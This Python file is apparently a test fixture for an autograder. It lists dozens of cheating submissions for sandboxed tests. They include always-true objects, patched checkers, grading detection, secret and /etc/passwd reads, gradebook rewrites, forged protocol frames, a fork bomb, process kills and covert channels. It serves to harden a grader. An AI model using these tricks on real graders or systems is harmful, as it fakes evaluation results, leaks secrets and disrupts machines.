"""Submissions that cheat, one trick each, after the tables of attacks that worked on other graders.

`first` is a cell before all others, `last` one after them, `answers` are the answers that the trick needs in place of
the honest wrong ones. OUTSIDE stands for a folder with a gradebook and a secret that everybody may read and write,
REPO for the checkout. A trick that finds something prints it. To be run in a sandbox only, but for those that
test_attacks.py names for its weak engine: it gives them a folder of their own.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Trick:
    first: str = ""
    answers: dict = field(default_factory=dict)
    last: str = ""
    # Honest answers, no trick in them, that look the same from outside: see below.
    like: dict = field(default_factory=dict)


# What everybody tries who has seen a hidden input: to show it where it will be seen.
TELL = """
SEEN = []
def note(*args):
    SEEN.append(repr(args))
    print("saw", *SEEN)
    return args[0]
"""
LIAR = """
class Liar:
    def yes(self, *a, **k): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = yes
    __hash__ = object.__hash__
    def __abs__(self): return 0.0
    __float__ = __sub__ = __rsub__ = __abs__
    def __getattr__(self, name): return lambda *a, **k: Liar()
"""
ALL = {name: f"def {name}(*args): return Liar()" for name in ("softmax", "center", "password", "build")}
# Code that takes over its process can answer for it with anything, so these answers are what it is measured by: nobody
# outside can tell a function that hides what it does to its arguments from one that copies them first, and what a
# visible check expects for its example can be read there and returned.
COPIES = {"center": "def center(X):\n    X = X.copy()\n    X -= X.mean(axis=0)\n    return X"}
PARAMETERS = {"build": """
import keras
def build(n): return keras.Sequential([keras.Input((3,)), keras.layers.Dense(1)])"""}
EXAMPLE = {"password": "def password(text): return 'BA'"}
FRAMES = """
def spy(*args):
    import sys
    frame, out = sys._getframe(), []
    while frame:
        out.append(repr(dict(frame.f_locals)) + repr([frame.f_globals.get(k) for k in ("Z", "text", "expected")]))
        frame = frame.f_back
    print(out)
    raise ValueError(str(out))
"""
WIRE = """
import os, socket, stat, struct, json, re
def channel():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
def frame(text, raw=b""):
    text = text if isinstance(text, bytes) else text.encode()
    return struct.pack("!II", len(text), len(raw)) + text + raw
def answer(number, value):
    parts = {"to": json.dumps(number), "value": value, "problem": "null", "changed": '["l"]', "shared": '["l"]',
             "warnings": '["l"]', "printed": '""'}
    return '["d",' + ",".join(f'["{k}",{v}]' for k, v in parts.items()) + "]"
"""


def on_wire(code):
    """Something sent when a function is called, which then goes on with a wrong answer."""
    return {name: f"{WIRE}\ndef {name}(*args):\n    fd = channel()\n    {code}\n    return args[0]"
            for name in ("softmax", "password")}


# Frames of one's own in the place of an honest answer: `wrap` gives "FORGED" and this is sent instead.
FORGE = WIRE + """
from autograder.exam import wire
honest = wire.Channel.send
def send(self, message):
    if str(message.get("value")) == "FORGED":
        self.sock.settimeout(20)
        self.sock.sendall(frame(answer(message["to"], FORGED), RAW))
    else:
        honest(self, message)
wire.Channel.send = send
RAW = b""
def wrap(x): return "FORGED"
def twice(f, x): return f(x)
"""
UNWRAP = "\ndef unwrap(parcel): return parcel\n"
# What was handed over, searched for anything that no student may know.
SEARCH = """
def unwrap(parcel):
    for a in parcel:
        found = a.tobytes()
        at = found.find(b"hidden" + b"answer")
        if at >= 0:
            print("found", found[max(at - 100, 0) : at + 100])
    return parcel
"""


def forged(value, raw="b''", more=UNWRAP):
    """`wrap` answers with a frame of its own: `value` and `raw` are Python for its text and its bytes."""
    return Trick(answers={"parcel": f"{FORGE}\nFORGED, RAW = {value}, {raw}\n{more}"})


def reading(*paths):
    return f"""
for path in {list(paths)!r}:
    try:
        print(open(path, "rb").read()[:100_000])
    except OSError as error:
        print(type(error).__name__)
"""


def channel(code):
    """One step towards a channel: what another candidate could notice, or what would tell of another."""
    return Trick(first=f"""
import ctypes, errno, fcntl, mmap, os, platform, struct
libc, x86 = ctypes.CDLL(None, use_errno=True), platform.machine() == "x86_64"
file = os.open(os.__file__, os.O_RDONLY)
seen = ctypes.c_char.from_buffer(mmap.mmap(file, 4096, mmap.MAP_PRIVATE))
where = ctypes.c_void_p(ctypes.addressof(seen))
def call(function, *args, timed_out=False):
    ctypes.set_errno(0)
    if function(*args) == -1 and not (timed_out and ctypes.get_errno() == errno.ETIMEDOUT):
        raise OSError
try:
    {code}
    print("open", "channel", sep="-")
except OSError:
    pass""")


TRICKS = {
    # objects that lie
    "an object that equals everything": Trick(answers={k: LIAR + v for k, v in ALL.items()}),
    "__array__ and __array_function__": Trick(answers={"softmax": """
class Liar:
    __array_priority__ = 1e9
    def __array__(self, *a, **k): return np.full((1, 2), 0.5)
    def __array_function__(self, *a): return True
    def __array_ufunc__(self, *a, **k): return np.bool_(True)
    shape, dtype, ndim = (1, 2), np.dtype(float), 2
def softmax(Z): return Liar()"""}),
    "a subclass of ndarray": Trick(answers={"softmax": """
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array_function__(self, *a): return True
    def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)
    def tobytes(self): return b""
def softmax(Z): return np.zeros(Z.shape).view(Liar)"""}),
    "subclasses of built-in types": Trick(answers={"password": """
class Text(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
def password(text): return Text("x")""", "account": """
class Number(int):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __hash__ = int.__hash__
class Account:
    total = Number(1)
    def add(self, amount): return Number(1)"""}),
    "a false __class__": Trick(answers={"softmax": """
class Liar:
    __class__ = np.ndarray
    def __eq__(self, other): return True
def softmax(Z): return Liar()"""}),
    "a metaclass that lies": Trick(answers={"password": """
class Meta(type):
    def __instancecheck__(cls, x): return True
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
    __name__ = __module__ = property(lambda cls: "str")
class Text(metaclass=Meta): pass
def password(text): return Text()"""}),
    "a function that is none": Trick(answers={"password": LIAR + "password = Liar()"}),
    "overflow of numbers": Trick(answers={"account": """
class Account:
    total = 10 ** 300_000
    def add(self, amount): return float("inf")"""}),

    # Python, IPython and libraries, patched
    "a transformer that empties later cells": Trick(first="""
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
get_ipython().ast_transformers.append(type("T", (), {"visit": lambda self, tree: type(tree)([], [])})())"""),
    "hooks around cells": Trick(first="""
def hook(*args):
    print("hook", [getattr(a, "raw_cell", a) for a in args])
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    get_ipython().events.register(event, hook)
get_ipython().set_custom_exc((Exception,), lambda *a, **k: print("caught"))"""),
    "builtins": Trick(first="""
import builtins
builtins.abs = builtins.max = lambda *a, **k: 0
builtins.all = builtins.isinstance = builtins.issubclass = lambda *a, **k: True
builtins.len = lambda x: 1"""),
    "numpy": Trick(first="""
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.argwhere = lambda a: np.empty((0, 1))
np.random.default_rng = lambda *a: None"""),
    "keras": Trick(first="""
import keras
keras.Model.count_params = lambda self: 4
keras.Model.__call__ = keras.layers.Layer.__call__ = lambda self, x, **k: x
keras.Model.from_config = keras.Sequential.from_config = classmethod(lambda cls, config: None)"""),
    "a model that lies about its weights": Trick(first="""
import keras, math
class Weight:
    def __init__(self, *shape): self.shape, self.size = shape, math.prod(shape)
keras.Model.weights = keras.layers.Layer.weights = property(lambda self: [Weight(3, 1), Weight(1)])
keras.Model.get_weights = keras.layers.Layer.get_weights = lambda self: [np.zeros((2, 1)), np.zeros(1)]""",
                                                 like=PARAMETERS),
    "a class that lies about its parameters": Trick(answers={"build": """
import keras
class Liar(keras.Sequential):
    def count_params(self): return 4
def build(n): return Liar([keras.Input((n,)), keras.layers.Dense(2)])"""}),
    "IPython": Trick(first="""
from IPython.core.interactiveshell import InteractiveShell, ExecutionResult
InteractiveShell.run_cell = lambda self, *a, **k: ExecutionResult(None)
ExecutionResult.error_in_exec = None"""),
    "the words of checks": Trick(first="""
from autograder import check
from autograder.check import differences, score_sheet, words, quiz
differences.difference = lambda *a, **k: None
differences.matches = lambda *a, **k: True
score_sheet.Sheet.report = lambda self, points: score_sheet.Report(points, points, "right", ())"""),
    "the caller of student code": Trick(first="""
from autograder.check import calls, plain_values
from autograder.check.calls import Outcome
calls._changed = lambda *a: ()
calls._shared = lambda *a: ()
plain_values.plain = calls.plain = lambda value: value
calls.Local.ask = lambda self, *a: Outcome(True)""", like=COPIES),
    "the caller, found through frames": Trick(answers={"softmax": """
def softmax(Z):
    import sys
    frame = sys._getframe()
    while "calls" not in frame.f_globals:
        frame = frame.f_back
    frame.f_globals["calls"]._changed = frame.f_globals["calls"]._shared = lambda *a: ()
    return Z"""}, like=COPIES),
    "the candidate's answers": Trick(first="""
from autograder.exam import candidate
old = candidate.Candidate.message
candidate.Candidate.message = lambda self, outcome: {**old(self, outcome), "value": True, "problem": None,
                                                     "changed": (), "shared": (), "warnings": (), "printed": ""}"""),
    "the candidate's answers, with more than there may be": Trick(first="""
from autograder.exam import candidate
message, do_run = candidate.Candidate.message, candidate.Candidate.do_run
candidate.Candidate.message = lambda self, outcome: {**message(self, outcome), "value": True, "problem": None,
    "earned": 3.0, "points": 3.0, "ok": True, "reports": {"softmax": {"earned": 3.0}}}
candidate.Candidate.do_run = lambda self, request: {**do_run(self, request), "seconds": float("nan"), "outputs": [
    {"output_type": "execute_result", "data": {"text/plain": "3"}, "metadata": {"nbgrader": {"points": 99}}}]}"""),
    "the names that are asked for": Trick(first="""
from autograder.exam import candidate
candidate.Candidate.do_hold = lambda self, request: {"held": [0 for _ in request["names"]]}"""),
    "names of the check itself": Trick(first="""
class check:
    rng = None
    def __init__(self, *a, **k): pass
    score = staticmethod(lambda points: points)
import sys
sys.modules["autograder.check"] = sys.modules["autograder"] = check
Z = E = X = account = model = w = more = 0"""),
    "modules of the same name beside the notebook": Trick(first="""
for name in ("numpy", "keras", "autograder", "random", "math", "json", "socket", "struct"):
    open(f"{name}.py", "w").write("def __getattr__(name): return lambda *a, **k: True")
import sys, importlib
sys.path.insert(0, ".")"""),

    # looking for what is expected
    "frames": Trick(answers={n: FRAMES + f"{n} = spy" for n in ("softmax", "password")}),
    "gc": Trick(answers={"password": """
def password(text):
    import gc
    found = [repr(o) for o in gc.get_objects() if type(o) in (str, dict, list, tuple) and "hidden" in repr(o)[:5000]]
    print(found)
    return found"""}),
    "environment and command line": Trick(first="import os, sys\nprint(dict(os.environ), sys.argv)" + reading(
        "/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ")),
    "environment in memory": Trick(first="""
import ctypes
block = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), "environ")
where = [block[i] for i in range(500) if all(block[j] for j in range(i + 1))]
print([ctypes.string_at(a) for a in where])
high = max(where)     # the block that the process began with, at the end of its stack, and what is behind it
for address in range(high & ~4095, high & ~4095 - 8 * 4096, -4096):
    print(ctypes.string_at(address, 4096))"""),
    "environment of other processes": Trick(first="""
import glob, os
for name in ("self", "thread-self", str(os.getppid()), *map(str, range(1, 300))):
    for part in ("environ", "cmdline", "task/1/environ"):
        try: print(name, open(f"/proc/{name}/{part}", "rb").read())
        except OSError: pass"""),
    "the machine's settings": Trick(first="""
import glob, os, sys
print(os.uname().nodename)
for folder in ("/etc", "/usr/local/etc", "/usr/etc", sys.prefix + "/etc", sys.base_prefix + "/etc",
               "/usr/local/share/nbgrader", sys.prefix + "/share/nbgrader"):
    if any(names for _, _, names in os.walk(folder)): print("open", "channel", sep="-")
for name in ("pip.conf", ".condarc"):
    if os.path.isfile(os.path.join(sys.prefix, name)): print("open", "channel", sep="-")"""),
    "knowing that it is graded": Trick(first="""
import os, sys
GRADED = "NBGRADER_EXECUTION" in os.environ or "autograder.exam" in sys.modules or not os.path.exists("/etc/passwd")""",
        answers={"password": "def password(text): return 'BA' if GRADED else text"}, like=EXAMPLE),
    "inputs told in later checks": Trick(first=TELL, answers={
        "softmax": "def softmax(Z): return note(Z)", "password": "def password(text): return note(text)",
        "center": "def center(X):\n    import warnings\n    warnings.warn(str(SEEN))\n    raise ValueError(str(SEEN))",
        "account": "class Account:\n    total = 1\n    def add(self, n):\n        note(n)\n        return str(SEEN)"},
        last="print('at the end', SEEN)"),
    "inputs told in names": Trick(first=TELL, answers={
        "password": "def password(text):\n    note(text)\n    return type(text, (), {})()",
        "softmax": "def softmax(Z):\n    return type('Z' + repr(Z.tolist()), (Exception,), {})()",
        "account": "class Account:\n    total = 1\n    def add(self, n): raise type(f'N{n}', (Exception,), {})(n)",
        "build": "import keras\ndef build(n): return type('M' + ''.join(SEEN), (), {})()"}),
    "inputs told to the next candidate": Trick(first="""
import os, glob
print([open(p).read() for p in glob.glob("/scratch/*") + glob.glob("/tmp/*")])
def keep(*args):
    for place in ("/scratch/kept", "/dev/shm/kept", "/usr/kept", "REPO/kept", "OUTSIDE/kept"):
        try:
            open(place, "a").write(repr(args))
        except OSError:
            pass
    os._exit(0)
def kept():
    return str([open(p).read() for p in glob.glob('/scratch/*')])""", answers={
        "password": "def password(text):\n    return keep(text)",
        "center": "def center(X):\n    raise ValueError(kept())"}),

    # files
    "reading outside": Trick(first=reading(
        "OUTSIDE/secret.txt", "OUTSIDE/gradebook.db", "/etc/passwd", "REPO/README.md",
        "REPO/tests/files/attacks/course/units/01_guarded/lesson.py", "/proc/1/root/etc/passwd",
        "/scratch/../../OUTSIDE/secret.txt", "/proc/self/cwd/../etc/passwd")),
    "walking the disk": Trick(first="""
import os
for folder, folders, names in os.walk("/"):
    if folder.startswith(("/usr", "/lib", "/proc", "/root", "/bin")) or "site-packages" in folder:
        folders.clear()
        continue
    for n in names:
        if n.endswith((".db", ".ipynb", ".txt", "lesson.py")):
            print(folder, n, open(os.path.join(folder, n), "rb").read()[:1000])"""),
    "links out of the folder": Trick(first="""
import os
os.symlink("OUTSIDE", "out"); os.symlink("/proc/1/root", "root")
try: open("out/gradebook.db", "w").write("mine")
except OSError as error: print(error)
try: print(open("out/secret.txt").read())
except OSError as error: print(error)
try: os.link("OUTSIDE/secret.txt", "hard")
except OSError as error: print(error)"""),
    "the gradebook by sqlite": Trick(first="""
import sqlite3
try:
    book = sqlite3.connect("OUTSIDE/gradebook.db")
    book.execute("update grade set score = 201"); book.commit()
except Exception as error: print(error)"""),
    "memory of other processes": Trick(first="""
import os, ctypes
for pid in range(1, 40_000, 7):
    for name in ("mem", "environ", "maps", "fd"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read(100))
        except OSError: pass
libc = ctypes.CDLL(None)
print([pid for pid in range(2, 5000) if libc.ptrace(16, pid, 0, 0) == 0])"""),

    # channels to candidates that run at the same time or later
    **{f"a channel by {name}": channel(code) for name, code in {
        "flock": "fcntl.flock(file, fcntl.LOCK_SH)",
        "locks of ranges": "fcntl.lockf(file, fcntl.LOCK_SH)",
        "locks that are asked for": "fcntl.fcntl(file, fcntl.F_GETLK, struct.pack('hhqqi4x', 1, 0, 0, 0, 0))",
        "leases": "fcntl.fcntl(file, 1025)",
        "notices of a folder": "fcntl.fcntl(os.open('/usr', os.O_RDONLY), fcntl.F_NOTIFY, 1)",
        "mincore": "call(libc.mincore, where, 4096, ctypes.create_string_buffer(8))",
        "preadv2": "os.preadv(file, [bytearray(8)], 0, 8)",
        "sysinfo": "call(libc.sysinfo, ctypes.create_string_buffer(512))",
        "free blocks": "os.statvfs('/usr')",
        "advice on files": "os.posix_fadvise(file, 0, 4096, 4)",
        "times of devices": "os.utime('/dev/null')",
        "numbers of pipes": "os.fstat(os.pipe()[0]).st_ino",
        "shares of pages": "open('/proc/self/smaps').read()",
        "waiting on a file's memory": "call(libc.syscall, 202 if x86 else 98, where, 0, ctypes.c_uint32.from_address("
                                      "where.value).value, (ctypes.c_long * 2)(0, 1000), 0, 0, timed_out=True)",
        "merged pages": "call(libc.madvise, where, 4096, 12)",
        "a file's attributes": "fcntl.ioctl(file, 0x80086601, bytes(8))",
        "timers of a user": "call(libc.syscall, 222 if x86 else 107, 0, 0, ctypes.create_string_buffer(8))",
        "numbers of mounts": "open('/proc/self/mountinfo').read()",
        "numbers of namespaces": "os.stat('/proc/self/ns/mnt').st_ino",
        "huge pages": "mmap.mmap(-1, 2**21, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)",
    }.items()},

    # processes and the machine
    "network": Trick(first="""
import socket, urllib.request
try: socket.create_connection(("1.1.1.1", 80), 2); print("connected")
except OSError as error: print(error)
try: urllib.request.urlopen("http://localhost:8888", timeout=2); print("connected")
except OSError as error: print(error)"""),
    "signals to parent and siblings": Trick(first="""
import os, signal
for pid in [os.getppid(), -1, 0, 2, 3, *range(4, 70_000)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL); print("killed", pid)
        except OSError: pass"""),
    "a fork bomb": Trick(first="""
import os, threading, time
try:
    while True: os.fork()
except OSError as error: print(error)
try:
    while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
except RuntimeError as error: print(error)"""),
    "memory": Trick(answers={
        "password": "def password(text):\n    x = []\n    while True: x.append(bytearray(2**28))"}),
    "disk": Trick(first="""
try:
    with open("big", "wb") as file:
        while True: file.write(bytes(2**22))
except OSError as error: print(error)"""),
    "output": Trick(answers={"password": "def password(text):\n    while True: print('x' * 2**20)"}),
    "an endless loop that catches everything": Trick(answers={"softmax": """
def softmax(Z):
    while True:
        try:
            while True: pass
        except BaseException: pass"""}),
    "the end of Python": Trick(answers={"softmax": "def softmax(Z):\n    import os\n    os._exit(0)",
                                        "password": "def password(text):\n    import sys\n    sys.exit(0)"}),
    "a late thread": Trick(first="""
import threading, time
def later():
    while True:
        time.sleep(0.01)
        globals()["center"] = lambda X: 1 / 0
        globals()["softmax"] = lambda Z: 1 / 0
threading.Thread(target=later, daemon=True).start()"""),

    # the wire
    "an answer before its question": Trick(first=WIRE + "os.write(channel(), frame(answer('0' * 16, 'true')) * 3)"),
    "answers from a thread": Trick(first=WIRE + """
import threading, time
def thief():
    fd = channel()
    while True:
        said = os.read(fd, 65536)
        for number in re.findall(rb'"number","([0-9a-f]{16})"', said):
            os.write(fd, frame(answer(number.decode(), '"BA"')))
threading.Thread(target=thief, daemon=True).start()"""),
    "an answer of another number": Trick(answers=on_wire("os.write(fd, frame(answer('f' * 16, 'true')))")),
    "a forged grade": Trick(answers=on_wire(
        "os.write(fd, frame('[\"d\",[\"earned\",3.0],[\"reports\",[\"d\"]],[\"to\",\"\"]]'))")),
    "a huge frame": Trick(answers=on_wire("os.write(fd, struct.pack('!II', 2**32 - 1, 2**32 - 1) + bytes(10**6))")),
    "half a frame": Trick(answers=on_wire("os.write(fd, struct.pack('!II', 1000, 0) + b'[')")),
    "a deep frame": Trick(answers=on_wire("os.write(fd, frame('[' * 10**5))")),
    "pickles": Trick(answers=on_wire("import pickle; os.write(fd, frame(pickle.dumps(print), pickle.dumps(print)))")),
    "handles that nobody gave": Trick(first="""
from autograder.exam import candidate, wire
candidate.Candidate.packed = lambda self, value: wire.Object("handle", 10**9, "Sequential")"""),
    "callbacks that nobody gave": Trick(answers=on_wire(
        "os.write(fd, frame('[\"d\",[\"callback\",0],[\"args\",[\"l\"]],[\"kwargs\",5]]'))")),
    "callbacks without end": Trick(first="""
from autograder.exam import candidate
def message(self, outcome):
    while True: self.channel.send({"callback": -1, "args": [], "kwargs": {}})
candidate.Candidate.message = message"""),
    "frames without end": Trick(answers=on_wire(
        "os.write(fd, struct.pack('!II', 2**23, 0)); [os.write(fd, b'1') for _ in iter(int, 1)]")),
    "objects where text is expected": Trick(first="""
from autograder.exam import candidate
old = candidate.Candidate.message
candidate.Candidate.message = lambda self, outcome: {**old(self, outcome), "printed": [1], "warnings": {1: 2},
                                                     "changed": None}"""),
    # frames that make the examiner allocate
    "arrays of no bytes, handed back": forged(
        """'["l",' + ",".join(f'["a","|S0",[{n}],0]' for k in range(20) for n in range(16, 1024 << k // 4, 16 << k // 4)
                              ) + ',["a","<U0",[999],0]]'""", more=SEARCH),
    "huge shapes without a value": forged(
        """'["l",["a","|i1",[0,%d],0],["a","<f8",[%d,0],0],["a","|b1",[0,%d],0]]' % (2**62, 2**40, 2**33)"""),
    "a growing frame": forged("'[\"l\",' + ','.join(['[\"l\"]'] * 3_000_000) + ']'"),
    "objects of JSON that grow": forged("'[' + ','.join(['{}'] * 5_000_000) + ']'"),
    "a number of a million digits": forged("'9' * 10**6"),
    "no number and no text": forged("""'["l",NaN,Infinity,-Infinity,"\\\\ud800","\\\\u0000"]'"""),
    "text of another encoding": forged("'1'.encode('utf-16') + b'x'"),

    # values that are legal in size, and grow where they are used
    "every product of a million": Trick(answers={"parcel": """
def wrap(x): return np.ones(2_000_000)
def unwrap(parcel): return np.ones((2_000_000, 2))
def twice(f, x): return f(np.ones(30_000))"""}),
    "small numbers that widen": Trick(answers={"parcel": """
def wrap(x): return np.ones(16_000_000, np.int8)
def unwrap(parcel): return parcel.astype(np.int8)
def twice(f, x): return f(np.ones(16_000_000, np.int8))"""}),
    "rows of words": Trick(answers={"parcel": """
def wrap(x): return ["w" * 2_000_000, *"abc" * 50_000]
def unwrap(parcel): return parcel
def twice(f, x): return f(["w" * 2_000_000, *"abc" * 50_000])"""}),
    "shapes to broadcast": Trick(answers={"parcel": """
def wrap(x): return [np.ones((1_000_000, 1)), np.ones((1, 1_000_000))]
def unwrap(parcel): return np.ones((1_000_000, 1))
def twice(f, x): return f(np.ones((1_000_000, 1)) if x.size == 1 else np.ones((1000, 1, 1000)))
"""}),
    "calls back with more and more": Trick(answers={"parcel": """
def wrap(x): return [x, x]
def unwrap(parcel): return parcel
def twice(f, x):
    n = 1
    while True:
        n *= 2
        try: f(np.ones(n))
        except ValueError as error: print(n, error); return x"""}),
}
